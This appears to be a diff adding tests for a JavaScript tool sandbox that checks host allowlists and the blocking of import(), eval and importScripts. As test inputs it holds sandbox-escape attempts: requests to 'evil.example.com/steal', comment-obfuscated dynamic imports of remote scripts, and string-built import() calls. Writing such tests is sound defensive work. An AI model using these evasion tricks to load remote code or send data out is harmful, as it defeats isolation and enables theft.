@@ -0,0 +1,178 @@
+import { resolveObjectURL } from "node:buffer";
+import vm from "node:vm";
+import { afterAll, beforeEach, describe, expect, it, vi } from "vitest";
+import { type SandboxRunOptions, ToolSandbox } from "./ToolSandbox";
+
+// What the worker global had before the bootstrap ran; each entry records the calls that got through
+let reached: string[] = [];
+let workersStarted = 0;
+let lockedGlobal: string | undefined;
+
+// Runs the worker bootstrap in its own realm, the way a dedicated worker would
+class FakeWorker {
+  onmessage: ((event: { data: unknown }) => void) | null = null;
+  onerror: ((event: unknown) => void) | null = null;
+  private listeners: ((event: { data: unknown }) => void)[] = [];
+  private ready: Promise<void>;
+
+  constructor(url: string) {
+    workersStarted++;
+    // Read the blob now: run() revokes its URL right after starting the worker
+    const blob = resolveObjectURL(url);
+    if (!blob) throw new Error(`No blob for ${url}`);
+
+    const scope: Record<string, unknown> = {
+      postMessage: (data: unknown) =>
+        queueMicrotask(() => this.onmessage?.({ data: structuredClone(data) })),
+      addEventListener: (
+        _type: string,
+        listener: (event: { data: unknown }) => void,
+      ) => this.listeners.push(listener),
+      fetch: () => reached.push("fetch"),
+      importScripts: () => reached.push("importScripts"),
+      XMLHttpRequest: class {},
+      AbortController,
+      Headers,
+      Response,
+      structuredClone,
+      setTimeout,
+      clearTimeout,
+      setInterval,
+      console,
+    };
+    scope.self = scope;
+    if (lockedGlobal) {
+      Object.defineProperty(scope, lockedGlobal, {
+        value: () => reached.push(lockedGlobal as string),
+        writable: false,
+        configurable: false,
+      });
+    }
+    const context = vm.createContext(scope);
+    this.ready = blob.text().then((source) => {
+      vm.runInContext(source, context);
+    });
+  }
+
+  postMessage(data: unknown) {
+    this.ready.then(() =>
+      this.listeners.forEach((listener) =>
+        listener({ data: structuredClone(data) }),
+      ),
+    );
+  }
+
+  terminate() {}
+}
+
+const run = (body: string, options: Partial<SandboxRunOptions> = {}) =>
+  ToolSandbox.run({
+    label: "test",
+    body,
+    params: { input: { quantity: 2 } },
+    permissions: { allowedHosts: ["api.example.com"], allowedComponents: [] },
+    host: {
+      axios: {
+        request: async () => ({
+          data: "ok",
+          status: 200,
+          statusText: "OK",
+          headers: {},
+        }),
+      },
+      components: {},
+      utils: {},
+    },
+    ...options,
+  });
+
+describe("ToolSandbox", () => {
+  beforeEach(() => {
+    reached = [];
+    workersStarted = 0;
+    lockedGlobal = undefined;
+    vi.stubGlobal("Worker", FakeWorker);
+  });
+
+  afterAll(() => {
+    vi.unstubAllGlobals();
+  });
+
+  it("runs the script with its params and the capability API", async () => {
+    expect(await run("return input.quantity * 2;")).toBe(4);
+    expect(
+      await run(
+        'return axios.get("https://api.example.com/menu").then(response => response.data);',
+      ),
+    ).toBe("ok");
+    await expect(
+      run('return axios.get("https://evil.example.com/steal");'),
+    ).rejects.toThrow(
+      "Tool test is not allowed to request https://evil.example.com/steal",
+    );
+  });
+
+  it("allows the app's own origin, and relative URLs, under self", () => {
+    vi.stubGlobal("location", { origin: "https://menu.example.com" });
+    expect(ToolSandbox.isHostAllowed("/menu", ["self"])).toBe(true);
+    expect(
+      ToolSandbox.isHostAllowed("https://menu.example.com/cart", ["self"]),
+    ).toBe(true);
+    expect(
+      ToolSandbox.isHostAllowed("https://api.example.com/menu", ["self"]),
+    ).toBe(false);
+    expect(
+      ToolSandbox.isHostAllowed("http://menu.example.com/menu", ["self"]),
+    ).toBe(false);
+  });
+
+  it("removes the network globals of the worker", async () => {
+    expect(
+      await run(
+        "return [typeof importScripts, typeof XMLHttpRequest, typeof self.fetch];",
+      ),
+    ).toEqual(["undefined", "undefined", "undefined"]);
+    expect(reached).toEqual([]);
+  });
+
+  it("refuses scripts that call import() before starting a worker", async () => {
+    for (const body of [
+      'return import("https://evil.example.com/x.js");',
+      'return import /* hidden */ ("https://evil.example.com/x.js");',
+      'return import // hidden\n("https://evil.example.com/x.js");',
+    ]) {
+      await expect(run(body)).rejects.toThrow(
+        "Sandboxed tool test cannot use import()",
+      );
+    }
+    expect(workersStarted).toBe(0);
+    expect(await run("const imports = (x) => x; return imports(1);")).toBe(1);
+  });
+
+  it("refuses to compile code at run time, so import() cannot be built from a string", async () => {
+    for (const body of [
+      'return Function("return 1")();',
+      'return (0, eval)("1");',
+      'return (async () => {}).constructor("return imp" + "ort(\'https://evil.example.com/x.js\')")();',
+      'return Object.getPrototypeOf(function* () {}).constructor("yield 1")().next();',
+      "setTimeout(\"importScripts('https://evil.example.com/x.js')\", 0);",
+    ]) {
+      await expect(run(body)).rejects.toThrow(
+        "Sandboxed tools cannot compile code at run time",
+      );
+    }
+    expect(await run('return utils.sleep(1).then(() => "slept");')).toBe(
+      "slept",
+    );
+  });
+
+  it("does not run the script when a blocked global cannot be removed", async () => {
+    lockedGlobal = "importScripts";
+    await expect(
+      run('importScripts("https://evil.example.com/x.js");'),
+    ).rejects.toThrow(
+      "Sandbox isolation failed, still reachable: importScripts",
+    );
+    expect(reached).toEqual([]);
+  });
+});